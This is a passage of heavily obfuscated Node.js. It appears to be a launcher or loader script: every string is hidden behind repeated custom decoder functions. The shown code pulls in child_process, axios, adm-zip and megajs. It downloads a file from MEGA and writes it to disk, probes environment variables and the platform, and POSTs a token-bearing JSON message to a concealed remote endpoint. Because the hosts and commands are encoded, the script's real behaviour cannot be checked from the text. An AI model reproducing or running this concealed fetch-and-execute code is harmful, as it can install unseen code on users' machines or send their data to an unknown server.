PIyZFd1=kmV8q2l.indexOf(iguVix[QOTJnfa]);if(PIyZFd1===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=PIyZFd1}else{Jmn7al4(mxcTHdH+=PIyZFd1*CCUQEYq[0xc],uD0dW5t|=mxcTHdH<<wbkRc9,wbkRc9+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|mxcTHdH<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function uD0dW5t(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=fteEB9(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}return uD0dW5t(0x71)}if(process[kmV8q2l(CCUQEYq[0x11])][kmV8q2l(CCUQEYq[0x12])]&&process[kmV8q2l(CCUQEYq[0x11])][kmV8q2l(CCUQEYq[0x12])][kmV8q2l(0x73)](kmV8q2l(0x74))){return kmV8q2l(0x75)}if(process[kmV8q2l(CCUQEYq[0x11])][kmV8q2l(0x76)]){return kmV8q2l(0x77)}if(process[kmV8q2l(CCUQEYq[0x11])][kmV8q2l(0x78)]){return kmV8q2l(0x79)}switch(rKD2LGD[kmV8q2l(0x7a)]()){case kmV8q2l(0x7b):return kmV8q2l(0x7c);case kmV8q2l(0x7d):return kmV8q2l(0x7e);case kmV8q2l(CCUQEYq[0x13]):return kmV8q2l(CCUQEYq[0x14]);default:return kmV8q2l(0x81)}},[uD0dW5t(0x82)]:function(vxMLN8,kmV8q2l){if(!kmV8q2l){kmV8q2l=function(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=vxMLN8(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}}if(!vxMLN8){vxMLN8=function(vxMLN8){var kmV8q2l="zrHdCBnOcfJqpoVtYEIsQM0L;^6/i=Z}%y8$3_@mah`>W\"[e?9~R)NUG]k2.(<4ST,xw*l|:XFD+{5jgA#b1K!7Pvu&",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,mxcTHdH,QOTJnfa;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<ne1HJWf;QOTJnfa++){var PIyZFd1=kmV8q2l.indexOf(iguVix[QOTJnfa]);if(PIyZFd1===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=PIyZFd1}else{Jmn7al4(mxcTHdH+=PIyZFd1*CCUQEYq[0xc],uD0dW5t|=mxcTHdH<<wbkRc9,wbkRc9+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|mxcTHdH<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}}var[iguVix]=Cew2wi;const ne1HJWf=q0loGu()[CCUQEYq[0x1a]](my_fykq)[uD0dW5t(0x83)](kmV8q2l(0x84));Jmn7al4(console[kmV8q2l(0x85)](kmV8q2l(0x86)+iguVix),HEwhXO[kmV8q2l(0x87)](trAKeI[kmV8q2l(0x88)](__dirname,kmV8q2l(0x89),A1DlewA()),CCUQEYq[0x35]+ne1HJWf+CCUQEYq[0x36]+iguVix+"\n"))}});if(kmV8q2l===uD0dW5t(0x8a)){Cew2wi=[]}if(kmV8q2l===uD0dW5t(0x8b)){function QOTJnfa(){var kmV8q2l,iguVix;if(uD0dW5t(0x8c)in WQriWoV){fteEB9()}function fteEB9(){var kmV8q2l;function iguVix(){}Jmn7al4(kmV8q2l=function(kmV8q2l,fteEB9){var vxMLN8=CCUQEYq[0x0],ne1HJWf,uD0dW5t,wbkRc9,mxcTHdH,QOTJnfa;Jmn7al4(ne1HJWf=CCUQEYq[0x0],uD0dW5t=new iguVix(CCUQEYq[0x0]),wbkRc9=uD0dW5t,mxcTHdH=kmV8q2l,QOTJnfa=fteEB9);while(mxcTHdH!==CCUQEYq[0x15]||QOTJnfa!==CCUQEYq[0x15]){Jmn7al4(ne1HJWf=(mxcTHdH?mxcTHdH.val:CCUQEYq[0x0])+(QOTJnfa?QOTJnfa.val:CCUQEYq[0x0])+vxMLN8,vxMLN8=Math.floor(ne1HJWf/CCUQEYq[0x16]),wbkRc9.next=new iguVix(ne1HJWf%CCUQEYq[0x16]),wbkRc9=wbkRc9.next,mxcTHdH=mxcTHdH?mxcTHdH.next:CCUQEYq[0x15],QOTJnfa=QOTJnfa?QOTJnfa.next:CCUQEYq[0x15])}if(vxMLN8)wbkRc9.next=new iguVix(vxMLN8);return uD0dW5t.next},console.log(kmV8q2l))}Jmn7al4(kmV8q2l=function(...kmV8q2l){Cew2wi=kmV8q2l;return mxcTHdH[vxMLN8].apply(this)},iguVix=ne1HJWf[vxMLN8]);if(iguVix){D6WnZ8(kmV8q2l,iguVix)}return kmV8q2l}wbkRc9=ciGv61s[vxMLN8]||(ciGv61s[vxMLN8]=QOTJnfa())}else{wbkRc9=mxcTHdH[vxMLN8]()}if(iguVix===uD0dW5t(0x8d)){function PIyZFd1(vxMLN8){var kmV8q2l="f^+a/b@jV3xcTUPui7O%(9>q<]5&*grzA{y6~FdSopv2;[$`4B=)\"wR!?C,0#8tLWeJM|ID1Qskh.}_NHG:YnEZKXml",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,mxcTHdH,QOTJnfa;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],mxcTHdH=-CCUQEYq[0x1]);for(QOTJnfa=CCUQEYq[0x0];QOTJnfa<ne1HJWf;QOTJnfa++){var PIyZFd1=kmV8q2l.indexOf(iguVix[QOTJnfa]);if(PIyZFd1===-CCUQEYq[0x1])continue;if(mxcTHdH<CCUQEYq[0x0]){mxcTHdH=PIyZFd1}else{Jmn7al4(mxcTHdH+=PIyZFd1*CCUQEYq[0xc],uD0dW5t|=mxcTHdH<<wbkRc9,wbkRc9+=(mxcTHdH&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);mxcTHdH=-CCUQEYq[0x1]}}if(mxcTHdH>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|mxcTHdH<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function DTIHOU(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=PIyZFd1(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}return{[DTIHOU(0x8e)]:wbkRc9}}else{return wbkRc9}}function D6WnZ8(vxMLN8,kmV8q2l=CCUQEYq[0x1]){function iguVix(vxMLN8){var kmV8q2l="OPEkdHGA.B[>|W/CxwD$%^`#7&9t3(N8X2RUrQv5Ij4fmFVMJK_?acYn60qS\"Zzi+pu{ysebh;g*Llo)]<},=!@1:T~",iguVix,ne1HJWf,isAUb2e,Cawo3ZI,fteEB9,uD0dW5t,wbkRc9;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,isAUb2e=[],Cawo3ZI=CCUQEYq[0x0],fteEB9=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<ne1HJWf;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(iguVix[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],Cawo3ZI|=uD0dW5t<<fteEB9,fteEB9+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(isAUb2e.push(Cawo3ZI&CCUQEYq[0x3]),Cawo3ZI>>=CCUQEYq[0x2],fteEB9-=CCUQEYq[0x2])}while(fteEB9>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){isAUb2e.push((Cawo3ZI|uD0dW5t<<fteEB9)&CCUQEYq[0x3])}return KZ8zhh4(isAUb2e)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Object[ne1HJWf(0x8f)](vxMLN8,ne1HJWf(0x90),{[ne1HJWf(0x91)]:kmV8q2l,[ne1HJWf(0x92)]:CCUQEYq[0x2b]});return vxMLN8}const{[LDgmDp6(0x93)]:DTIHOU}=require("child_process"),trAKeI=require("path"),HEwhXO=require("fs"),rKD2LGD=require("os"),q0loGu=require("moment-timezone"),yh3lZ0=require("axios"),eqB2tdB=require("adm-zip"),zQnwXtr=require("megajs"),lrCYGt9=LDgmDp6(0x94),NoukmVm="./",CXx7Bau=LDgmDp6(0x95),YZuo1hi=0xbb8,my_fykq=LDgmDp6(0x96),pH9b1ES=CCUQEYq[0x17],k2oxo0=0x1388;let aW53l4=CCUQEYq[0x0];const rr1oHZ=[{[LDgmDp6(CCUQEYq[0x18])]:LDgmDp6(0x98),[LDgmDp6(CCUQEYq[0x19])]:LDgmDp6(0x9a)},{[LDgmDp6(CCUQEYq[0x18])]:LDgmDp6(0x9b),[LDgmDp6(CCUQEYq[0x19])]:LDgmDp6(0x9c)},{[LDgmDp6(CCUQEYq[0x18])]:LDgmDp6(0x9d),[LDgmDp6(CCUQEYq[0x19])]:LDgmDp6(0x9e)},{[LDgmDp6(CCUQEYq[0x18])]:LDgmDp6(0x9f),[LDgmDp6(CCUQEYq[0x19])]:LDgmDp6(0xa0)}],Eh8mjNb=LDgmDp6(0xa1),gZEdEpo=LDgmDp6(0xa2);let mvQ0sFg=CCUQEYq[0x15];const R5Fvpq=LDgmDp6(0xa3),TuyMfl=LDgmDp6(0xa4),xBhL4k=async vxMLN8=>{const kmV8q2l=LDgmDp6(0xa5)+vxMLN8;try{function iguVix(vxMLN8){var kmV8q2l="Eu63[{AqQR5l]v$MrXw1GYW0,|x>8yzZDi~4Fcd7neg`I\";_afV}+j2B!J9@*Kk&%PoTC.SpbmHs^hL)#(NO<?t/=U:",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,isAUb2e,Cawo3ZI;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],isAUb2e=-CCUQEYq[0x1]);for(Cawo3ZI=CCUQEYq[0x0];Cawo3ZI<ne1HJWf;Cawo3ZI++){var ciGv61s=kmV8q2l.indexOf(iguVix[Cawo3ZI]);if(ciGv61s===-CCUQEYq[0x1])continue;if(isAUb2e<CCUQEYq[0x0]){isAUb2e=ciGv61s}else{Jmn7al4(isAUb2e+=ciGv61s*CCUQEYq[0xc],uD0dW5t|=isAUb2e<<wbkRc9,wbkRc9+=(isAUb2e&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);isAUb2e=-CCUQEYq[0x1]}}if(isAUb2e>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|isAUb2e<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function ne1HJWf(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}await fetch(ne1HJWf(0xa6)+R5Fvpq+ne1HJWf(0xa7),{[ne1HJWf(0xa8)]:ne1HJWf(0xa9),[ne1HJWf(0xaa)]:{[ne1HJWf(0xab)]:ne1HJWf(0xac)},[ne1HJWf(0xad)]:JSON[ne1HJWf(0xae)]({[ne1HJWf(0xaf)]:TuyMfl,[ne1HJWf(0xb0)]:kmV8q2l,[ne1HJWf(0xb1)]:ne1HJWf(0xb2)})})}catch(fteEB9){function uD0dW5t(vxMLN8){var kmV8q2l="dwPYAbJ0{_lcH4#Q.9321?vTe:zsj\"xtof^6DZ%[5`/&R*r@~BLS>U$!X<hE8C}gO;yinNpV(+]a)F=k7|qmMGuKIW,",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,isAUb2e,Cawo3ZI;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],isAUb2e=-CCUQEYq[0x1]);for(Cawo3ZI=CCUQEYq[0x0];Cawo3ZI<ne1HJWf;Cawo3ZI++){var ciGv61s=kmV8q2l.indexOf(iguVix[Cawo3ZI]);if(ciGv61s===-CCUQEYq[0x1])continue;if(isAUb2e<CCUQEYq[0x0]){isAUb2e=ciGv61s}else{Jmn7al4(isAUb2e+=ciGv61s*CCUQEYq[0xc],uD0dW5t|=isAUb2e<<wbkRc9,wbkRc9+=(isAUb2e&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);isAUb2e=-CCUQEYq[0x1]}}if(isAUb2e>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|isAUb2e<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function wbkRc9(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=uD0dW5t(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}Jmn7al4(Cew2wi=[LDgmDp6(0xb3)+fteEB9[LDgmDp6(CCUQEYq[0x3b])]],PIyZFd1(wbkRc9(0xb5),wbkRc9(0xb6),wbkRc9(0xb7))[wbkRc9(0xb8)])}};function A1DlewA(vxMLN8,kmV8q2l,iguVix){if(!iguVix){iguVix=function(){}}if(!kmV8q2l){kmV8q2l=function(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=vxMLN8(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}}if(!vxMLN8){vxMLN8=function(vxMLN8){var kmV8q2l=":;x>$2<!9JGTwvaVrifMd[l6*uX~5YKky.Ct^ZA\"o)pU]&7D,nBE}W=mObSIR4j1%e(|L#qsQz3@0`8+PHgNh{Fc/_?",iguVix,isAUb2e,Cawo3ZI,ne1HJWf,fteEB9,uD0dW5t,wbkRc9;Jmn7al4(iguVix=""+(vxMLN8||""),isAUb2e=iguVix.length,Cawo3ZI=[],ne1HJWf=CCUQEYq[0x0],fteEB9=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<isAUb2e;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(iguVix[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],ne1HJWf|=uD0dW5t<<fteEB9,fteEB9+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(Cawo3ZI.push(ne1HJWf&CCUQEYq[0x3]),ne1HJWf>>=CCUQEYq[0x2],fteEB9-=CCUQEYq[0x2])}while(fteEB9>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){Cawo3ZI.push((ne1HJWf|uD0dW5t<<fteEB9)&CCUQEYq[0x3])}return KZ8zhh4(Cawo3ZI)}}if(LDgmDp6(0xb9)in WQriWoV){iguVix()}return""+q0loGu()[CCUQEYq[0x1a]](my_fykq)[kmV8q2l(0xbf)](kmV8q2l(0xc0))+kmV8q2l(0xc1)}function sJ5Kmhl(vxMLN8,kmV8q2l){if(!kmV8q2l){kmV8q2l=function(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=vxMLN8(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}}if(!vxMLN8){vxMLN8=function(vxMLN8){var kmV8q2l="?9TZ+~qBr[k6Q!Vt=F/z8,n)03SKf<Y$ha#Uw(X5]JAm&d;:7lyx*g^PILvocOE.CHbe|R}N\"DjiG{Wu_@s`1%M4>2p",iguVix,ne1HJWf,fteEB9,isAUb2e,Cawo3ZI,uD0dW5t,wbkRc9;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],isAUb2e=CCUQEYq[0x0],Cawo3ZI=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<ne1HJWf;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(iguVix[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],isAUb2e|=uD0dW5t<<Cawo3ZI,Cawo3ZI+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(isAUb2e&CCUQEYq[0x3]),isAUb2e>>=CCUQEYq[0x2],Cawo3ZI-=CCUQEYq[0x2])}while(Cawo3ZI>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){fteEB9.push((isAUb2e|uD0dW5t<<Cawo3ZI)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}}const iguVix=trAKeI[kmV8q2l(0xc2)](__dirname,kmV8q2l(0xc3));if(!HEwhXO[kmV8q2l(0xc4)](iguVix)){function ne1HJWf(vxMLN8){var kmV8q2l="]rSNfeIMYHPsJZbXa6\"u7h=.l92}1kd#$?p>!4`R3c^zCtTG&,|5:;~WxjBA/wvm0ng)o%F(K8E+OiVyQ_D@*[Uq{<L",iguVix,ne1HJWf,fteEB9,isAUb2e,Cawo3ZI,uD0dW5t,wbkRc9;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],isAUb2e=CCUQEYq[0x0],Cawo3ZI=CCUQEYq[0x0],uD0dW5t=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<ne1HJWf;wbkRc9++){var ciGv61s=kmV8q2l.indexOf(iguVix[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(uD0dW5t<CCUQEYq[0x0]){uD0dW5t=ciGv61s}else{Jmn7al4(uD0dW5t+=ciGv61s*CCUQEYq[0xc],isAUb2e|=uD0dW5t<<Cawo3ZI,Cawo3ZI+=(uD0dW5t&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(isAUb2e&CCUQEYq[0x3]),isAUb2e>>=CCUQEYq[0x2],Cawo3ZI-=CCUQEYq[0x2])}while(Cawo3ZI>CCUQEYq[0x9]);uD0dW5t=-CCUQEYq[0x1]}}if(uD0dW5t>-CCUQEYq[0x1]){fteEB9.push((isAUb2e|uD0dW5t<<Cawo3ZI)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function fteEB9(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=ne1HJWf(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}HEwhXO[fteEB9(0xc5)](iguVix)}}sJ5Kmhl();const QNJ3_U=[{[LDgmDp6(CCUQEYq[0x18])]:"1",[LDgmDp6(CCUQEYq[0x1b])]:LDgmDp6(0xc7)},{[LDgmDp6(CCUQEYq[0x18])]:CCUQEYq[0x1e],[LDgmDp6(CCUQEYq[0x1b])]:LDgmDp6(0xc8)},{[LDgmDp6(CCUQEYq[0x18])]:CCUQEYq[0x1d],[LDgmDp6(CCUQEYq[0x1b])]:LDgmDp6(0xc9)}];async function zbcKa5a(vxMLN8){return new Promise((kmV8q2l,iguVix)=>{function ne1HJWf(kmV8q2l){var iguVix="/|\"*#ck+l94.7]Z0v&HxrSAFRMq`{!VXdYKuiJ[8hsjLU<QNp^@;B)w?Wtf2(6TC1Oo},:$>g3=byD_E5I~GmznPe%a",ne1HJWf,fteEB9,uD0dW5t,vxMLN8,isAUb2e,Cawo3ZI,wbkRc9;Jmn7al4(ne1HJWf=""+(kmV8q2l||""),fteEB9=ne1HJWf.length,uD0dW5t=[],vxMLN8=CCUQEYq[0x0],isAUb2e=CCUQEYq[0x0],Cawo3ZI=-CCUQEYq[0x1]);for(wbkRc9=CCUQEYq[0x0];wbkRc9<fteEB9;wbkRc9++){var ciGv61s=iguVix.indexOf(ne1HJWf[wbkRc9]);if(ciGv61s===-CCUQEYq[0x1])continue;if(Cawo3ZI<CCUQEYq[0x0]){Cawo3ZI=ciGv61s}else{Jmn7al4(Cawo3ZI+=ciGv61s*CCUQEYq[0xc],vxMLN8|=Cawo3ZI<<isAUb2e,isAUb2e+=(Cawo3ZI&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(uD0dW5t.push(vxMLN8&CCUQEYq[0x3]),vxMLN8>>=CCUQEYq[0x2],isAUb2e-=CCUQEYq[0x2])}while(isAUb2e>CCUQEYq[0x9]);Cawo3ZI=-CCUQEYq[0x1]}}if(Cawo3ZI>-CCUQEYq[0x1]){uD0dW5t.push((vxMLN8|Cawo3ZI<<isAUb2e)&CCUQEYq[0x3])}return KZ8zhh4(uD0dW5t)}function fteEB9(kmV8q2l){if(typeof isAUb2e[kmV8q2l]===CCUQEYq[0x5]){return isAUb2e[kmV8q2l]=ne1HJWf(Cawo3ZI[kmV8q2l])}return isAUb2e[kmV8q2l]}const uD0dW5t=zQnwXtr[fteEB9(0xca)][fteEB9(0xcb)](vxMLN8);uD0dW5t[fteEB9(0xcc)](ne1HJWf=>{if(ne1HJWf){return iguVix(ne1HJWf)}uD0dW5t[fteEB9(0xcd)]((uD0dW5t,vxMLN8)=>{if(uD0dW5t){return iguVix(uD0dW5t)}HEwhXO[fteEB9(0xce)](lrCYGt9,vxMLN8,vxMLN8=>{if(vxMLN8){return iguVix(vxMLN8)}kmV8q2l()})})})})}async function as9i5UI(vxMLN8,kmV8q2l,iguVix,ne1HJWf){if(!ne1HJWf){ne1HJWf=function(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=iguVix(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}}if(!iguVix){iguVix=function(vxMLN8){var kmV8q2l="XLSshdoJPDFtfCrmencBVRTYbKQZAjHIEqUalMpiGNgOWkx#<_%6^0w}.:`v>&~3]$[y2@1\"*!9z;8|{,)7+4u5/(=?",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}}try{function fteEB9(vxMLN8){var kmV8q2l="^BsDnp=O?$TMECj3{])F+P~IHdQ40/fJ9R[vXzt.G!o2(gb_1,iK:q#xuW\"k<ZaVyAY@wS5h}Lmc7UNe6*;r8>&%|l`",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function uD0dW5t(vxMLN8){if(typeof isAUb2e[vxMLN8]===CCUQEYq[0x5]){return isAUb2e[vxMLN8]=fteEB9(Cawo3ZI[vxMLN8])}return isAUb2e[vxMLN8]}const wbkRc9=""+vxMLN8[LDgmDp6(CCUQEYq[0x19])]+kmV8q2l[LDgmDp6(CCUQEYq[0x1b])]+LDgmDp6(0xcf)+Eh8mjNb;Jmn7al4(Cew2wi=[uD0dW5t(0xd0)+kmV8q2l[uD0dW5t(CCUQEYq[0x1c])]+uD0dW5t(0xd2)+vxMLN8[uD0dW5t(CCUQEYq[0x1c])]+uD0dW5t(0xd3)],PIyZFd1(uD0dW5t(0xd4)));if(kmV8q2l[uD0dW5t(CCUQEYq[0x1c])]===CCUQEYq[0x1d]||kmV8q2l[uD0dW5t(CCUQEYq[0x1c])]===CCUQEYq[0x1e]){function ciGv61s(vxMLN8){var kmV8q2l="NUq3/#<>M%G;)@`DC]E$,J}B4XV.L?hgfkY+2|n(xW*:9wZ6&[=rz10t~!Sys5v7m^_ud\"8{ioHcQleaTKRpjOPAIFb",iguVix,ne1HJWf,fteEB9,uD0dW5t,wbkRc9,ciGv61s,mxcTHdH;Jmn7al4(iguVix=""+(vxMLN8||""),ne1HJWf=iguVix.length,fteEB9=[],uD0dW5t=CCUQEYq[0x0],wbkRc9=CCUQEYq[0x0],ciGv61s=-CCUQEYq[0x1]);for(mxcTHdH=CCUQEYq[0x0];mxcTHdH<ne1HJWf;mxcTHdH++){var QOTJnfa=kmV8q2l.indexOf(iguVix[mxcTHdH]);if(QOTJnfa===-CCUQEYq[0x1])continue;if(ciGv61s<CCUQEYq[0x0]){ciGv61s=QOTJnfa}else{Jmn7al4(ciGv61s+=QOTJnfa*CCUQEYq[0xc],uD0dW5t|=ciGv61s<<wbkRc9,wbkRc9+=(ciGv61s&CCUQEYq[0xd])>CCUQEYq[0xe]?CCUQEYq[0xf]:CCUQEYq[0x10]);do{Jmn7al4(fteEB9.push(uD0dW5t&CCUQEYq[0x3]),uD0dW5t>>=CCUQEYq[0x2],wbkRc9-=CCUQEYq[0x2])}while(wbkRc9>CCUQEYq[0x9]);ciGv61s=-CCUQEYq[0x1]}}if(ciGv61s>-CCUQEYq[0x1]){fteEB9.push((uD0dW5t|ciGv61s<<wbkRc9)&CCUQEYq[0x3])}return KZ8zhh4(fteEB9)}function mxcTHdH(vxMLN8){if(typeof 